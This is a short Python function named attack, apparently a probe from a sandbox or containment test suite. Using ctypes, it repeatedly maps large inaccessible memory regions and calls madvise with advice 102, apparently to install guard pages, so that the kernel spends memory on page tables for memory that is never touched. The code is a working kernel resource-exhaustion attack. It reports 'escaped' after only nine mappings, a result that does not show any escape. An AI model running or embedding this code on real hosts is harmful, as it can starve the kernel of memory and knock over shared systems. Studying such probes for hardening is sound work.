# Attempts: take the kernel's memory for page tables, by guards on memory that is never touched.

def attack(world):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_long
    size, taken = 200 << 20, 0
    while True:
        area = libc.mmap(None, ctypes.c_size_t(size), 0, 0x4022, -1, ctypes.c_long(0))
        if area == -1:
            break
        taken += 1
        for start in range(0, size, 2 << 20):
            libc.madvise(ctypes.c_void_p(area + start), ctypes.c_size_t(4096), 102)
        if taken > 8:
            return "escaped", taken
